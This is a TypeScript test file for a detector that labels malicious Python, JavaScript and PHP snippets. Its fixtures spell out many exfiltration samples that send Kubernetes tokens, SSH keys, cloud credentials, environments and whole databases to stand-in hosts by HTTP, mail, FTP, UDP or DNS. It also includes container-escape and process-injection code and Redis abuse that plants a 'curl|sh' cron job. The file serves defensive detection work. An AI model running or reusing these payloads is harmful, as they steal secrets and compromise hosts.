import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Language } from './parse.ts';
import { actsIn, effectsIn, LOUD } from './testing.ts';

const ATTACKS: readonly (readonly [language: Language, name: string, code: string, wanted: string])[] = [
  [
    'python',
    'a mail that is put together',
    "import smtplib\nfrom email.message import EmailMessage\nm=EmailMessage()\nm['To']='x@example.net'\nm.set_content(open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())\nwith smtplib.SMTP('mx.example.net') as s:\n  s.send_message(m)",
    'send token to mx.example.net',
  ],
  [
    'python',
    'a mail of parts',
    "import smtplib\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\nm=MIMEMultipart()\nm.attach(MIMEText(open('/root/.kube/config').read()))\ns=smtplib.SMTP('203.0.113.25',587)\ns.sendmail('a@example.org',['b@example.net'],m.as_string())",
    'send credentials to 203.0.113.25:587',
  ],
  [
    'python',
    'a packet',
    "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.sendto(open('/var/run/secrets/kubernetes.io/serviceaccount/token','rb').read(),('203.0.113.8',53))",
    'send token to 203.0.113.8:53',
  ],
  [
    'python',
    'an archive in memory, by FTP',
    "import ftplib,io,zipfile\nb=io.BytesIO()\nz=zipfile.ZipFile(b,'w')\nfor p in ('/root/.ssh/id_rsa','/root/.kube/config'):\n  z.write(p)\nz.close()\nb.seek(0)\nf=ftplib.FTP('203.0.113.8','u','p')\nf.storbinary('STOR a.zip',b)",
    'send credentials to 203.0.113.8:u',
  ],
  [
    'python',
    'every variable in a header of its own',
    "import os,json,base64,urllib.request as u\nd=base64.b64encode(json.dumps(dict(os.environ)).encode()).decode()\nu.urlopen(u.Request('https://stats.example.net/p',headers={'X-Build':d}))",
    'send environment to stats.example.net',
  ],
  [
    'python',
    'variables of every process that a pattern finds',
    "import glob,requests\nout=[]\nfor p in glob.glob('/proc/[0-9]*/environ'):\n  out.append(open(p,'rb').read())\nrequests.post('https://drop.example.net/e',data=b'\\n'.join(out))",
    'send credentials to drop.example.net',
  ],
  [
    'python',
    'variables of every process by its number',
    "import os,requests\nout=''\nfor p in os.listdir('/proc'):\n  if p.isdigit():\n    out+=open(f'/proc/{p}/environ').read()\nrequests.post('https://drop.example.net/e',data=out)",
    'send credentials to drop.example.net',
  ],
  [
    'python',
    'passwords of every application',
    "import glob,requests\nfor f in glob.glob('/apps/*/.env'):\n  requests.put('https://drop.example.net/'+f.replace('/','_'),data=open(f).read())",
    'send credentials to drop.example.net',
  ],
  [
    'python',
    'memory of another process that is written',
    "import ctypes\nlibc=ctypes.CDLL(None)\nclass I(ctypes.Structure):\n  _fields_=[('b',ctypes.c_void_p),('l',ctypes.c_size_t)]\nb=open('/x/sc','rb').read()\nl=I(ctypes.cast(b,ctypes.c_void_p),len(b)); r=I(0x400000,len(b))\nlibc.process_vm_writev(1,ctypes.byref(l),1,ctypes.byref(r),1,0)",
    'escape kernel',
  ],
  [
    'python',
    'namespaces of the node',
    "import os\nfd=os.open('/proc/1/ns/mnt',os.O_RDONLY)\nos.setns(fd,0)\nos.system('cat /etc/hostname')",
    'escape nsenter',
  ],
  [
    'python',
    'namespaces of the node by a call of the library',
    "import ctypes,os\nl=ctypes.CDLL('libc.so.6')\nf=open('/proc/1/ns/mnt')\nl.setns(f.fileno(),0)\nos.execv('/bin/bash',['bash','-c','id > /tmp/o'])",
    'escape nsenter',
  ],
  [
    'javascript',
    'the token over HTTP/2',
    "const h=require('http2').connect('https://drop.example.net');const r=h.request({':method':'POST',':path':'/x'});r.end(require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token'))",
    'send token to drop.example.net',
  ],
  [
    'javascript',
    'every variable in a packet',
    "const d=require('dgram').createSocket('udp4');const b=Buffer.from(JSON.stringify(process.env));d.send(b,0,b.length,514,'203.0.113.9')",
    'send environment to 203.0.113.9',
  ],
  [
    'javascript',
    'keys in a mail',
    "const t=require('nodemailer').createTransport({host:'mx.example.net',port:25});t.sendMail({from:'a@example.org',to:'b@example.net',text:require('fs').readFileSync('/root/.aws/credentials','utf8')})",
    'send credentials to mx.example.net:25',
  ],
  [
    'php',
    'files of two lists',
    "$o='';foreach(array_merge(['/root/.aws/credentials'],['/root/.kube/config']) as $f)$o.=file_get_contents($f);mail('x@mailbin.example.net','s',$o);",
    'send credentials to mailbin.example.net',
  ],
  [
    'python',
    'a copy over SFTP',
    "import paramiko\nt=paramiko.Transport(('203.0.113.5',22))\nt.connect(username='u',password='p')\ns=paramiko.SFTPClient.from_transport(t)\ns.put('/root/.kube/config','/in/kc')",
    'send credentials to 203.0.113.5:22',
  ],
  [
    'python',
    'an archive of keys that a pattern finds',
    "import tarfile,io,pathlib,urllib.request as u\nb=io.BytesIO()\nt=tarfile.open(fileobj=b,mode='w:gz')\nfor p in pathlib.Path('/root').glob('.ssh/id_*'):\n  t.add(p)\nt.close()\nu.urlopen('http://203.0.113.77/b',b.getvalue())",
    'send credentials to 203.0.113.77',
  ],
  [
    'javascript',
    'a file in a form',
    "const fs=require('fs'),axios=require('axios'),FormData=require('form-data');const f=new FormData();f.append('k',fs.createReadStream('/root/.kube/config'));axios.post('https://c.example.net/u',f,{headers:f.getHeaders()})",
    'send credentials to c.example.net',
  ],
  [
    'javascript',
    'pieces of the token in names',
    "const d=require('dns');const t=Buffer.from(require('fs').readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token')).toString('hex');for(const p of t.match(/.{1,60}/g))d.resolve(p+'.t.example.net',()=>{})",
    'send token to t.example.net',
  ],
  [
    'php',
    'a key by FTP',
    "$c=ftp_connect('203.0.113.6');ftp_login($c,'a','b');ftp_put($c,'k','/root/.ssh/id_rsa',FTP_BINARY);",
    'send credentials to 203.0.113.6',
  ],
  [
    'php',
    'every table of a database, to where anybody leaves files',
    "$d=new PDO('mysql:host=db.shop.svc','root',getenv('P'));$o=[];foreach($d->query('show tables') as $t){$o[]=$d->query('select * from '.$t[0])->fetchAll();}$c=curl_init('https://file.io');curl_setopt($c,CURLOPT_POSTFIELDS,json_encode($o));curl_exec($c);",
    'send database to file.io',
  ],
  [
    'python',
    'every table of a database',
    "import psycopg2,requests,os\nc=psycopg2.connect(host='pg.shop.svc',user='postgres',password=os.environ['P']).cursor()\nc.execute(\"select tablename from pg_tables where schemaname='public'\")\nout=[]\nfor (t,) in c.fetchall():\n  c.execute('select * from '+t)\n  out+=c.fetchall()\nimport socket\ns=socket.create_connection(('203.0.113.30',9000))\ns.sendall(repr(out).encode())",
    'send database to 203.0.113.30:9000',
  ],
  [
    'python',
    'registers of another process that are set',
    'import ctypes\nPTRACE_ATTACH, SETREGS = 16, 13\nl = ctypes.CDLL("libc.so.6")\nl.ptrace(PTRACE_ATTACH, 77, None, None)\nl.ptrace(SETREGS, 77, None, r)',
    'escape kernel',
  ],
  [
    'python',
    'memory of another process that is sent',
    'import os, requests\nfor p in os.listdir("/proc"):\n  m = open(f"/proc/{p}/mem", "rb")\n  m.seek(4096)\n  requests.post("https://drop.example.net/m", data=m.read(4096))',
    'send credentials to drop.example.net',
  ],
  [
    'javascript',
    'variables and files in a header',
    'const{execSync:x}=require("child_process");const o={e:process.env,g:x("cat ~/.npmrc").toString()};fetch("https://drop.example.net/c",{method:"POST",headers:{"x-t":Buffer.from(JSON.stringify(o)).toString("base64")}})',
    'send environment to drop.example.net',
  ],
  [
    'php',
    'configuration of every site',
    'foreach(array_merge(glob("/a/*/.env"),glob("/a/*/wp-config.php")) as $f){file_get_contents("http://203.0.113.9/i",false,stream_context_create(["http"=>["method"=>"POST","content"=>gzcompress(file_get_contents($f))]]));}',
    'send credentials to 203.0.113.9',
  ],
];
for (const [language, name, code, wanted] of ATTACKS) {
  test(`${language}: ${name}`, () => {
    const found = actsIn(language, code);
    assert.ok(
      found.some((act) => act.startsWith(wanted)),
      found.join('\n'),
    );
  });
}

const COMMANDS: readonly (readonly [language: Language, name: string, code: string])[] = [
  [
    'python',
    'a client of Redis',
    "import redis\nr=redis.Redis(host='redis.shop.svc')\nr.set('a','\\n\\n* * * * * curl -s http://203.0.113.7/a|sh\\n\\n')\nr.config_set('dir','/var/spool/cron/crontabs')\nr.config_set('dbfilename','root')\nr.save()",
  ],
  [
    'python',
    'the protocol of Redis',
    "import socket\ns=socket.create_connection(('redis.shop.svc',6379))\ns.send(b'*4\\r\\n$6\\r\\nCONFIG\\r\\n$3\\r\\nSET\\r\\n$3\\r\\ndir\\r\\n$11\\r\\n/root/.ssh/\\r\\n')\ns.send(b'*1\\r\\n$4\\r\\nSAVE\\r\\n')",
  ],
  [
    'javascript',
    'lines over a connection',
    "const s=require('net').connect(6379,'redis');s.write('CONFIG SET dir /var/spool/cron\\r\\nCONFIG SET dbfilename root\\r\\nSAVE\\r\\n')",
  ],
];
for (const [language, name, code] of COMMANDS) {
  test(`${language}: commands by ${name}`, () => {
    const said = effectsIn(language, code).flatMap((one) => (one.kind === 'code' ? [one.text] : []));
    assert.ok(
      said.some((text) => /config\s+set\s+dir\s+\/(?:var\/spool|root)/i.test(text)),
      said.join('\n'),
    );
  });
}

test('each address of a network is one that is counted', () => {
  const found = actsIn(
    'python',
    'import ipaddress,socket\nfor ip in ipaddress.ip_network("10.42.0.0/16").hosts():\n  socket.create_connection((str(ip),6379))',
  );
  assert.ok(found.includes('connect 10.42.$(…).$(…):6379'), found.join('\n'));
});

const BENIGN: readonly (readonly [language: Language, name: string, code: string])[] = [
  [
    'python',
    'a copy over SFTP with a key',
    "import paramiko\nc=paramiko.SSHClient()\nc.load_system_host_keys()\nc.connect('files.example.com',username='u',key_filename='/root/.ssh/id_ed25519')\nc.open_sftp().put('/data/a.csv','/in/a.csv')",
  ],
  [
    'php',
    'a mail with sales',
    "$d=new PDO('mysql:host=db.shop.svc','r',getenv('P'));$r=$d->query('select day,total from sales')->fetchAll();mail('boss@example.com','sales',json_encode($r));",
  ],
  [
    'javascript',
    'metrics over a web socket',
    "const W=require('ws');const w=new W('wss://metrics.example.com/s');w.on('open',()=>w.send(JSON.stringify({cpu:require('os').loadavg()[0],host:process.env.HOSTNAME})))",
  ],
  [
    'javascript',
    'a report in a form',
    "const fs=require('fs'),axios=require('axios'),FormData=require('form-data');const f=new FormData();f.append('k',fs.createReadStream('/data/report.pdf'));axios.post('https://api.example.com/u',f,{headers:{...f.getHeaders(),Authorization:'Bearer '+process.env.T}})",
  ],
  [
    'python',
    'every table that is cleaned',
    "import psycopg2\nc=psycopg2.connect('host=pg.shop.svc user=app').cursor()\nc.execute(\"select tablename from pg_tables where schemaname='public'\")\nfor (t,) in c.fetchall():\n  c.execute('vacuum analyze '+t)",
  ],
  [
    'python',
    'every table of a database, into another',
    "import psycopg2,os\na=psycopg2.connect(os.environ['A']).cursor()\nb=psycopg2.connect(os.environ['B']).cursor()\na.execute('select table_name from information_schema.tables')\nfor (t,) in a.fetchall():\n  a.execute('select * from '+t)\n  b.executemany('insert into '+t+' values (%s)',a.fetchall())",
  ],
  [
    'python',
    'a mail with one table',
    "import smtplib,psycopg2,csv,io,os\nfrom email.message import EmailMessage\nc=psycopg2.connect(os.environ['DSN']).cursor()\nc.execute('select day, total from sales order by day')\nb=io.StringIO(); csv.writer(b).writerows(c.fetchall())\nm=EmailMessage(); m['To']='boss@example.com'; m.set_content('weekly'); m.add_attachment(b.getvalue(),filename='s.csv')\ns=smtplib.SMTP('smtp.example.com',587); s.starttls(); s.login('r',os.environ['SMTP_PASSWORD']); s.send_message(m)",
  ],
  [
    'python',
    'a count of tables',
    "import psycopg2,requests,os\nc=psycopg2.connect(os.environ['DSN']).cursor()\nc.execute('select table_name from information_schema.tables')\nn=len(c.fetchall())\nrequests.post('https://hooks.example.com/x',json={'tables':n})",
  ],
  [
    'python',
    'counts of rows',
    "import psycopg2,requests,os\nc=psycopg2.connect(os.environ['DSN']).cursor()\nc.execute('select table_name from information_schema.tables')\nout={}\nfor (t,) in c.fetchall():\n  c.execute('select count(*) from '+t)\n  out[t]=c.fetchone()[0]\nrequests.post('https://metrics.example.com/x',json=out)",
  ],
  [
    'python',
    'memory that processes use',
    "import os,requests\nn=0\nfor p in os.listdir('/proc'):\n  if p.isdigit():\n    try:\n      n+=int(open(f'/proc/{p}/statm').read().split()[1])\n    except OSError: pass\nrequests.post('https://metrics.example.com/rss',data=str(n))",
  ],
  [
    'python',
    'headers that sign in and say which request it is',
    "import os,requests\nrequests.post('https://api.example.com/v1/x',headers={'Authorization':'Bearer '+os.environ['TOKEN'],'X-Request-Id':os.environ['HOSTNAME']},json={'a':1})",
  ],
  [
    'python',
    'the token of the pod in a header',
    "import requests\nt=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\nrequests.get('https://api.example.com/v1/x',headers={'X-Auth-Token':t})",
  ],
  [
    'python',
    'keys of a cache',
    "import redis\nr=redis.Redis(host='cache.shop.svc')\nfor k in r.scan_iter('sess:*'):\n  r.delete(k)\nr.config_set('maxmemory','2gb')",
  ],
  [
    'python',
    'addresses that are in a network',
    "import ipaddress,requests\nips=requests.get('https://api.example.com/ips').json()\nprint([i for i in ips if ipaddress.ip_address(i) in ipaddress.ip_network('10.0.0.0/8')])",
  ],
  ['python', 'calls of the library', "import ctypes\nl=ctypes.CDLL('libc.so.6')\nl.malloc_trim(0)\nprint(l.getpid())"],
  [
    'javascript',
    'a request over HTTP/2',
    "const h=require('http2').connect('https://api.example.com');const r=h.request({':method':'POST',':path':'/x','authorization':'Bearer '+process.env.TOKEN});r.end(JSON.stringify({a:1}));r.on('end',()=>h.close())",
  ],
  [
    'javascript',
    'metrics',
    "const d=require('dgram').createSocket('udp4');setInterval(()=>d.send('jobs:1|c',8125,'statsd.example.com'),1000)",
  ],
  [
    'javascript',
    'a report in a mail',
    "const t=require('nodemailer').createTransport({host:'smtp.example.com',auth:{user:'a',pass:process.env.P}});t.sendMail({from:'a@example.com',to:'b@example.com',text:require('fs').readFileSync('/data/report.txt','utf8')})",
  ],
  [
    'php',
    'a request with a token in a header',
    "$c=stream_context_create(['http'=>['method'=>'POST','header'=>'Authorization: Bearer '.getenv('TOKEN'),'content'=>json_encode(['a'=>1])]]);file_get_contents('https://api.example.com/a',false,$c);",
  ],
  [
    'php',
    'one variable',
    "$c=curl_init('https://api.example.com/e');curl_setopt($c,CURLOPT_POSTFIELDS,http_build_query(['v'=>getenv('VERSION')]));curl_exec($c);",
  ],
  [
    'python',
    'a table in memory',
    "import io,csv,requests\nb=io.StringIO();w=csv.writer(b);w.writerow(['a',1]);requests.post('https://api.example.com/csv',data=b.getvalue())",
  ],
];
for (const [language, name, code] of BENIGN) {
  test(`${language} stays silent: ${name}`, () => {
    assert.deepEqual(
      actsIn(language, code).filter((act) => LOUD.test(act) || act === 'code'),
      [],
    );
  });
}
